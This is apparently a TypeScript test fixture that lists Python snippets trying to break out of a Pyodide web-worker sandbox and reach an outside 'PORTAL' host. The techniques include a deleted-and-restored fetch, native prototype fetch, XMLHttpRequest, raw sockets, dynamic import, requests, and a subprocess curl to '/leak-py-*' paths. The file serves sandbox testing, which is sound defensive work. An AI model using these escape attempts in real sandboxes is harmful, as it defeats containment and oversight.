import type { Attempt } from './attempt.ts';

/** A socket of this Python is a WebSocket, which opens while the program waits for something. */
const WAIT = `run_sync(js.eval('new Promise((done) => setTimeout(done, 1000))'))`;

/** From a Python program, which has the worker's own globals in the module `js`. */
export const fromPython: readonly Attempt[] = [
  {
    name: 'js.fetch, uncovered',
    code: `return run_sync(js.eval('delete self.fetch; fetch("' + PORTAL + '/leak-py-fetch")')).status`,
  },
  {
    name: 'fetch of the platform',
    code: `return run_sync(js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch.call(js.self, PORTAL + '/leak-py-native')).status`,
  },
  {
    name: 'js.XMLHttpRequest',
    code: `x = js.XMLHttpRequest.new(); x.open('GET', PORTAL + '/leak-py-xhr', False); x.send(); return x.status`,
  },
  {
    name: 'pyodide.http',
    code: `from pyodide.http import open_url\nreturn open_url(PORTAL + '/leak-py-open').read()`,
  },
  {
    name: 'urllib',
    code: `import urllib.request\ntry:\n    return urllib.request.urlopen(PORTAL + '/leak-py-urllib', timeout=1).status\nfinally:\n    ${WAIT}`,
  },
  {
    name: 'a socket',
    code: `import socket\nhost, port = PORTAL.split('//')[1].split(':')\ntry:\n    s = socket.create_connection((host, int(port)), 1)\n    s.send(b'GET /leak-py-socket HTTP/1.0\\r\\n\\r\\n')\n    return s.recv(10)\nfinally:\n    ${WAIT}`,
  },
  {
    name: 'a module from elsewhere',
    code: `return run_sync(js.eval('import("' + PORTAL + '/leak-py-import.js")'))`,
  },
  {
    name: 'another process',
    code: `import subprocess\nreturn subprocess.check_output(['curl', PORTAL + '/leak-py-curl'])`,
    heldBy: 'WebAssembly: there are no processes',
    planted: { program: `import subprocess\nsubprocess.check_output = lambda arguments: 'an answer'` },
  },
  {
    name: 'requests to a foreign address',
    code: `import requests\nreturn requests.get(PORTAL + '/leak-py-requests').status_code`,
  },
  {
    name: 'the window behind the worker, from Python',
    code: `return js.parent`,
    heldBy: 'the browser: a worker has no window',
    planted: { program: `js.eval('globalThis.parent = "a window"')` },
  },
];
